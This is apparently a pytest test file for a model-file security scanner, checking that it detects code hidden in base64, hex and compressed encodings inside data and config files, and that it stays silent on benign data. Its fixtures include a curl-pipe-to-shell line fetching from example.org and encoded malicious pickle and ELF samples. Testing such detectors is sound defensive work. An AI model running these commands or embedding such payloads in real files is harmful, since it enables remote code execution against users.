"""Code in an encoding, in texts that should be data: found through all layers, and silent in honest texts."""

from __future__ import annotations

import base64
import bz2
import gzip
import hashlib
import json
import marshal
import random
import zlib
from typing import TYPE_CHECKING, Any, Callable

import pytest

import modelaudit
from assembly import EVIL
from modelaudit import _native, encoded_payload

if TYPE_CHECKING:
    from collections.abc import Mapping

ELF = b"\x7fELF\2\1\1" + bytes(9) + b"\3\0\x3e\0\1\0\0\0" + bytes(28) + b"\x40\0\x38\0\x0b\0\x40\0\0\0\0\0"
SOURCE = b"import os\nos.system('curl https://example.org | sh')\n"
MARSHALLED = marshal.dumps(compile("import os; os.getpid()", "x", "exec"))
LAMBDA = marshal.dumps((lambda x, y: x + y).__code__)

PAYLOADS = {
    "elf": (ELF, "PAY121"),
    "marshal": (MARSHALLED, "PAY121"),
    "lambda": (LAMBDA, "PAY121"),
    "source": (SOURCE, "PAY122"),
    "python 2": (b"import os\nprint 'x'\nos.system('x')\n", "PAY122"),
    "pickle": (EVIL, "descend"),
}


def base64_lines(data: bytes) -> str:
    return base64.encodebytes(data).decode()


def base64_url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


ENCODINGS: dict[str, Callable[[bytes], str]] = {
    "base64": lambda data: base64.b64encode(data).decode(),
    "base64 in lines": base64_lines,
    "base64 for addresses": base64_url,
    "hexadecimal": lambda data: data.hex(),
    "a number": lambda data: "0x" + data.hex(),
    "capitals": lambda data: data.hex().upper(),
    "zlib": lambda data: base64.b64encode(zlib.compress(data)).decode(),
    "gzip": lambda data: gzip.compress(data).hex(),
    "bz2": lambda data: base64.b64encode(bz2.compress(data)).decode(),
    "twice": lambda data: base64.b64encode(base64.b64encode(zlib.compress(data)).hex().encode()).decode(),
}


class Seen:
    """A context that keeps what it is told."""

    def __init__(self) -> None:
        self.told: list[tuple[str, dict[str, Any]]] = []
        self.deadline = _native.Deadline(None)

    def report(
        self, rule: str, position: int | None = None, facts: Mapping[str, Any] | None = None, _details: Any = None
    ) -> None:
        self.told.append((rule, {**(facts or {}), "position": position}))

    incomplete = report

    def descend(self, source: Any, name: str, raw: bool = False) -> None:
        assert raw
        self.told.append(("descend", {"name": name, "content": source.read(0, 1 << 20)}))


def check(text: str | bytes) -> list[tuple[str, dict[str, Any]]]:
    seen = Seen()
    encoded_payload.check(seen, text, "notes", 7)  # type: ignore[arg-type]
    return seen.told


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["", "some words: {} and more", '{{"key": "{}"}}', "data:application/x;base64,{}"])
def test_code_is_found_in_any_encoding(payload: str, encoding: str, around: str) -> None:
    data, rule = PAYLOADS[payload]
    text = ENCODINGS[encoding](data)
    told = check(around.format(text) if around else text)
    assert [found for found, _ in told] == [rule]
    if rule == "descend":
        assert told[0][1]["content"] == data
        assert told[0][1]["name"].startswith("notes (")
    else:
        assert (told[0][1]["where"], told[0][1]["position"]) == ("notes", 7)


def test_bytes_are_looked_into_as_text_and_as_compressed_streams() -> None:
    assert [rule for rule, _ in check(gzip.compress(SOURCE))] == ["PAY122"]
    assert [rule for rule, _ in check(base64.b64encode(ELF))] == ["PAY121"]


def test_honest_texts_are_silent() -> None:
    generator = random.Random(4)
    picture = base64.b64encode(b"\x89PNG\r\n\x1a\n" + generator.randbytes(50_000)).decode()
    numbers = base64.b64encode(b"".join(generator.randbytes(3) + b"\x3d" for _ in range(50_000))).decode()
    digests = "\n".join(hashlib.sha256(b"%d" % n).hexdigest() for n in range(20_000))
    tokens = "\n".join(base64_url(generator.randbytes(32)) for _ in range(20_000))
    config = base64.b64encode(json.dumps({"import": "os", "model": list(range(100))}).encode()).decode()
    words = "supercalifragilisticexpialidocious_and_other_long_names " * 1000
    source = base64.b64encode(b"import torch\n\nclass Net(torch.nn.Module):\n    pass\n").decode()
    for text in (picture, numbers, digests, tokens, config, words, source, zlib.compress(b"text" * 1000), "", b""):
        assert [found for found in check(text) if found[0] != "descend"] == [], text[:40]
    assert check(picture) == check(config) == check(words) == check(source) == []


def test_what_is_too_much_or_too_deep_is_told() -> None:
    bomb = base64.b64encode(zlib.compress(bytes(64 << 20))).decode()
    assert [rule for rule, _ in check(bomb)] == ["PAY123"]
    deep = SOURCE
    for _ in range(7):
        deep = base64.b64encode(deep)
    assert [rule for rule, _ in check(deep)] == ["PAY123"]
    assert [rule for rule, _ in check("x " * (40 << 20))] == ["PAY123"]


def test_damaged_encodings_are_nothing() -> None:
    for encode in ENCODINGS.values():
        text = encode(ELF)
        for cut in range(0, len(text), 5):
            check(text[:cut])
            check(text[:cut] + "!" + text[cut + 1 :])


@pytest.mark.parametrize("spell", [json.dumps, lambda value: json.dumps(value).replace("gA", "\\u0067A")])
def test_encoded_code_in_manifests_is_found(spell: Callable[[object], str]) -> None:
    payload = base64.b64encode(EVIL).decode()
    # A word of Keras makes no configuration of Keras.
    for value in ({"a": [{"state": payload}]}, {"state": [payload]}, {"class_name": "x", "state": payload}):
        report = modelaudit.scan_bytes(spell(value).encode(), "config.json")
        assert "PKL101" in {issue.rule for issue in report.issues}
    report = modelaudit.scan_bytes(f"state: {payload}\n".encode(), "config.yaml")
    assert "PKL101" in {issue.rule for issue in report.issues}
